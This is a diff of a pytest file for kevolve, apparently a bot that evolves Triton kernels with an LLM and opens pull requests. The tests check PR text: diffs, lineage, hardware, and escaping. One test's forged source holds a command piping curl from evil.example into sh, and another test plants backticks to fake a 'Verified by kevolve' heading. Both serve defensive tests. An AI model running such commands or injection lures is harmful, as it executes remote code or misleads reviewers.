@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 from jinja2 import UndefinedError
-from kevolve.bot.intake import IntakeError
+from kevolve.bot.fieldread import IntakeError
 from kevolve.bot.messages import Messages, best_chart, duration, ms
 from kevolve.bot.slash import Command
 from kevolve.bot.winners import Merged, Winner
@@ -129,7 +129,7 @@ def test_titles_and_commit_messages(messages: Messages) -> None:
 
 
 def test_nothing_to_publish_without_a_best(messages: Messages) -> None:
-    result = {**fixtures.timed_result(), "best": None}
+    result = {**fixtures.timed_result(), "best": None, "lineage": []}
     with pytest.raises(ValueError, match="softmax: no correct candidate, nothing to publish"):
         messages.pr_body(result, fixtures.REPRO)
 
@@ -164,7 +164,9 @@ def test_check_summaries(messages: Messages) -> None:
     assert title == "softmax: nothing to publish"
     regressed = "4096x1024 float16 regressed: speedup 0.800x \\[0.750-0.850\\]"
     assert f"Not published:\n- {regressed}\n" in summary
-    title, summary = messages.check_summary({**fixtures.timed_result(), "best": None})
+    title, summary = messages.check_summary(
+        {**fixtures.timed_result(), "best": None, "lineage": []}
+    )
     assert title == "softmax: no correct candidate found"
     assert summary.startswith("None of the 10 candidates evaluated passed the correctness checks.")
 
@@ -327,3 +329,173 @@ def test_a_best_whose_id_is_not_its_source_hash_is_refused(messages: Messages) -
     forged["best"]["source"] = "import os\nos.system('curl https://evil.example | sh')\n"
     with pytest.raises(IntakeError, match=r"best\.id: .* is not the hash of its source"):
         messages.pr_body(forged, fixtures.REPRO)
+
+
+def _section(body: str, heading: str) -> str:
+    """The text under `## heading`, up to the next heading of its level."""
+    found = re.search(rf"^## {heading}\n\n(.*?)(?=^## |\Z)", body, re.MULTILINE | re.DOTALL)
+    assert found is not None, f"no {heading} section"
+    return found.group(1)
+
+
+def _fenced_diff(body: str) -> str:
+    """What the body's ```diff fence holds, as a Markdown reader finds its end."""
+    found = re.search(r"^```diff\n(.*?)^ {0,3}```", body, re.MULTILINE | re.DOTALL)
+    assert found is not None, "no diff fence"
+    return found.group(1)
+
+
+def test_what_changed_names_each_retuned_value(messages: Messages) -> None:
+    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO, original=fixtures.ORIGINAL)
+    assert _section(body, "What changed").splitlines()[0] == (
+        "Only launch parameters and constant values changed: "
+        "`BLOCK: 1024 → 512`, `num_warps: 4 → 8`."
+    )
+    # The tuner adds a launch keyword the kernel left to Triton's default.
+    tuned = fixtures.ORIGINAL.replace("num_warps=4)", "num_warps=4, num_stages=2)")
+    result = fixtures.with_best(fixtures.timed_result(), tuned, None)
+    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.ORIGINAL)
+    assert _section(body, "What changed").splitlines()[0] == (
+        "Only launch parameters and constant values changed: `num_stages: default → 2`."
+    )
+
+
+def test_what_changed_counts_the_lines_of_a_rewrite_and_quotes_the_model(
+    messages: Messages,
+) -> None:
+    why = "exp2 is one instruction: see [this](https://evil.example) @octocat"
+    result = fixtures.with_best(fixtures.timed_result(), fixtures.REWRITTEN, why)
+    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.SOURCE)
+    assert _section(body, "What changed").splitlines()[0] == (
+        "2 lines added and 1 removed; the model's account of the change (its words, not verified "
+        "by kevolve): exp2 is one instruction: see \\[this\\](https\\://evil.example) "
+        "@\u200boctocat"
+    )
+    assert body.count("exp2 is one instruction") == 1  # not again under Search
+    silent = fixtures.with_best(fixtures.timed_result(), fixtures.REWRITTEN, None)
+    body = messages.pr_body(silent, fixtures.REPRO, original=fixtures.SOURCE)
+    assert _section(body, "What changed").splitlines()[0] == (
+        "2 lines added and 1 removed; no account of the change came with it (proposed by llm)."
+    )
+
+
+def test_the_whole_diff_is_collapsed_under_the_summary(messages: Messages) -> None:
+    result = fixtures.with_best(fixtures.timed_result(), fixtures.REWRITTEN, None)
+    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.SOURCE)
+    assert _section(body, "What changed").endswith(
+        "<details><summary>The diff</summary>\n\n"
+        "```diff\n"
+        "--- current\n"
+        "+++ proposed\n"
+        "@@ -11,7 +11,8 @@\n"
+        "     row = tl.program_id(0)\n"
+        "     cols = tl.arange(0, BLOCK)\n"
+        '     x = tl.load(x_ptr + row * n_cols + cols, mask=cols < n_cols, other=-float("inf"))\n'
+        "-    num = tl.exp(x - tl.max(x, axis=0))\n"
+        "+    x = (x - tl.max(x, axis=0)) * 1.4426950408889634\n"
+        "+    num = tl.exp2(x)\n"
+        "     tl.store(y_ptr + row * n_cols + cols, num / tl.sum(num, axis=0), "
+        "mask=cols < n_cols)\n"
+        " \n"
+        " \n"
+        "```\n\n"
+        "</details>\n\n"
+    )
+
+
+def test_backticks_in_the_kernel_cannot_close_the_diff_fence(messages: Messages) -> None:
+    # An unchanged line shows with one space in front: "```" there would close the fence, and
+    # the line after it would be a heading of the body.
+    lure = '"""Usage:\n```\n## Verified by kevolve\n"""\n'
+    original = fixtures.ORIGINAL.replace("BLOCK = 1024", lure + "BLOCK = 1024")
+    proposed = fixtures.SOURCE.replace("BLOCK = 512", lure + "BLOCK = 512")
+    result = fixtures.with_best(fixtures.timed_result(), proposed, None)
+    body = messages.pr_body(result, fixtures.REPRO, original=original)
+    fenced = _fenced_diff(body)
+    assert " '''\n ## Verified by kevolve\n \"\"\"\n-BLOCK = 1024\n+BLOCK = 512\n" in fenced
+    assert fenced.endswith("BLOCK=BLOCK, num_warps=8)\n")  # the whole diff is in the fence
+    assert "```" not in fenced
+    # In the candidate's own lines too.
+    added = fixtures.with_best(fixtures.timed_result(), fixtures.SOURCE + lure, None)
+    fenced = _fenced_diff(messages.pr_body(added, fixtures.REPRO, original=fixtures.SOURCE))
+    assert fenced.endswith("+'''\n+## Verified by kevolve\n+\"\"\"\n")
+
+
+def test_a_long_diff_is_cut_and_says_so(messages: Messages) -> None:
+    padding = "".join(f"ROW_{i} = {i}  # {'x' * 60}\n" for i in range(1000))
+    result = fixtures.with_best(fixtures.timed_result(), fixtures.SOURCE + padding, None)
+    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.SOURCE)
+    assert len(_fenced_diff(body)) < 41_000
+    assert re.search(
+        r"^\d+ more lines of the diff are not shown here; the pull request's files hold the "
+        r"whole change\.$",
+        body,
+        re.MULTILINE,
+    )
+    assert "1000 lines added and 0 removed" in body and len(body) < 60_000
+
+
+def test_without_the_original_the_diff_is_not_available(messages: Messages) -> None:
+    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO)
+    assert _section(body, "What changed") == (
+        "The diff against the repo's current kernel is not available here; the pull request's "
+        "files show the change.\n\n"
+    )
+    assert "<details>" not in body
+
+
+def test_the_lineage_lists_each_step_newest_first_with_its_repairs(
+    messages: Messages,
+) -> None:
+    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO, original=fixtures.ORIGINAL)
+    assert (
+        "- How it got here, newest first:\n"
+        f"  - generation 3: `{fixtures.BEST_ID}`, proposed by llm\n"
+        f"  - generation 2: `{fixtures.REPAIR_ID}`, proposed by llm:m-1:repair "
+        "(a repair of a candidate that failed)\n"
+        f"  - generation 1: `{fixtures.FAILED_ID}`, proposed by llm:m-1\n"
+        f"  - generation 0: `{fixtures.SEED_ID}`, proposed by seed (the repo's kernel)\n"
+        "- LLM: "
+    ) in body
+    long = fixtures.timed_result()
+    steps = long["lineage"]
+    middle = [{**steps[1], "id": f"{i:016x}", "generation": 12 - i} for i in range(10)]
+    long["lineage"] = [{**steps[0], "generation": 13}, *middle, steps[-1]]
+    shown = re.findall(r"^  - .*$", messages.pr_body(long, fixtures.REPRO), re.MULTILINE)
+    assert len(shown) == 9 and shown[0].startswith("  - generation 13: ")
+    assert shown[7].startswith("  - generation 6: `0000000000000006`")
+    assert shown[8] == "  - 4 earlier steps back to the seed not listed"
+
+
+def test_untimed_texts_call_no_candidate_best_or_faster(messages: Messages) -> None:
+    why = "Folds the scale into exp2 and reads each row once."
+    result = fixtures.with_best(fixtures.untimed_result(), fixtures.REWRITTEN, why)
+    result["llm"], result["best"]["proposer"] = fixtures.LLM, "llm"
+    title = messages.pr_title(result, "cpu")
+    body = messages.pr_body(result, fixtures.REPRO_CPU, original=fixtures.ORIGINAL)
+    message = messages.commit_message(result, hardware="cpu")
+    assert "a repair of a candidate that failed" in body and why in body  # all of it shown
+    for text in (title, body, message):
+        assert not re.search(r"\b(best|faster)\b", text, re.IGNORECASE), text
+    assert (
+        f"; this commit carries {result['best']['id']} (generation 3, proposed by llm)." in message
+    )
+    assert "nothing was timed, so any claim about speed in them is untested" in body
+
+
+@pytest.mark.parametrize(
+    ("versions", "line"),
+    [
+        ({}, "- torch/triton versions not reported\n"),
+        ({"torch": "2.5.1+cpu"}, "- torch 2.5.1+cpu, triton version not reported\n"),
+        ({"torch": "2.5.1+cpu", "triton": "3.1.0"}, "- torch 2.5.1+cpu, triton 3.1.0\n"),
+    ],
+)
+def test_cpu_hardware_shows_the_versions_it_has(
+    messages: Messages, versions: dict[str, str], line: str
+) -> None:
+    result = fixtures.untimed_result()
+    result["hardware"] = {"device": "cpu", "cpu": "x86_64", **versions}
+    hardware = _section(messages.pr_body(result, fixtures.REPRO_CPU), "Hardware")
+    assert hardware == f"- Device: x86_64 (CPU, Triton interpreter)\n{line}\n"
+    assert "unknown" not in hardware
